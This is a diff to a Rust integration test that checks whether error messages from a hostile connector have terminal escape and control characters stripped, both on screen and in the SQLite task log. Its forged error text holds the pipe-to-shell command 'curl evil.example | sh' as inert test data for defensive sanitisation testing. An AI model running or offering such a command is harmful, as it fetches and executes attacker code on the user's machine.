@@ -253,6 +253,17 @@ fn a_log_flood_with_terminal_escapes_is_rate_limited_and_defused() {
     let stdout = String::from_utf8_lossy(&output.stdout);
     assert!(stdout.contains("Synced hostile/default") && stdout.contains("Synced acme/default"), "{stdout}");
     project.assert_acme_synced(&acme);
+
+    // An error message is as defused as a log message, on the terminal and in what is recorded.
+    connect_hostile(&project, "forger", "http://127.0.0.1:9", "t", "forged-error", &[]).success();
+    let output = project.max().args(["sync", "hostile/forger"]).assert().failure().get_output().clone();
+    let shown = format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
+    assert!(shown.contains("error: sync failed, run `curl evil.example | sh`"), "the message is shown: {shown}");
+    assert!(!shown.contains('\u{1b}') && !shown.contains('\r'), "{shown:?}");
+    let db = rusqlite::Connection::open(project.path().join(".max/installations/hostile/forger/data.db")).unwrap();
+    let recorded: String =
+        db.query_row("SELECT error FROM _max_tasks WHERE error IS NOT NULL", [], |row| row.get(0)).unwrap();
+    assert!(recorded.contains("curl evil.example") && !recorded.chars().any(char::is_control), "{recorded:?}");
 }
 
 #[test]
